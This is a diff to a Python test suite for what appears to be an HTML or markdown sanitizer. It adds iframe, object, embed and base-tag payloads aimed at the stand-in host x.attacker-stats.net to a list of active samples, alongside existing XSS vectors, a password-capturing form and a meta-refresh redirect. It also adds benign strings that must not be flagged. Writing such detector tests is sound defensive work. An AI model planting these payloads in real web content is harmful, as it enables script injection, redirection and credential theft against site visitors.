@@ -15,6 +15,10 @@ ACTIVE = [
     ("event_handler", "<svg/onload=alert(1)>"),
     ("event_handler", '<b style="color:red" ONMOUSEOVER = "alert(1)">x</b>'),
     ("frame", "<iframe src=//x.attacker-stats.net></iframe>"),
+    ("frame", "<iframe/width=1 srcdoc='&lt;script&gt;'>"),
+    ("frame", "<object type=text/html data=//x.attacker-stats.net>"),
+    ("frame", "<embed src=//x.attacker-stats.net>"),
+    ("frame", '<base target="_top"href="//x.attacker-stats.net/">'),
     ("frame", "<form action=//x.attacker-stats.net><input name=password></form>"),
     ("frame", '<meta http-equiv="refresh" content="0;url=//x.attacker-stats.net">'),
     ("script_address", "[pay](javascript:alert(1))"),
@@ -55,6 +59,9 @@ def test_the_same_after_code_is_found(kind: str, text: str):
         "A script element runs JavaScript: be careful.",
         "i <3 you, and 3 > 2",
         "Union rules select the members.",
+        "It prints <object> or <object at 0x7f3a>, dtype=object.",
+        "An <iframe> in a page, and <base> in its head.",
+        '<form id="registration" asp-action="Submit" method="post"><input name="mail"></form>',
     ],
 )
 def test_words_and_plain_markup_are_not(text: str):
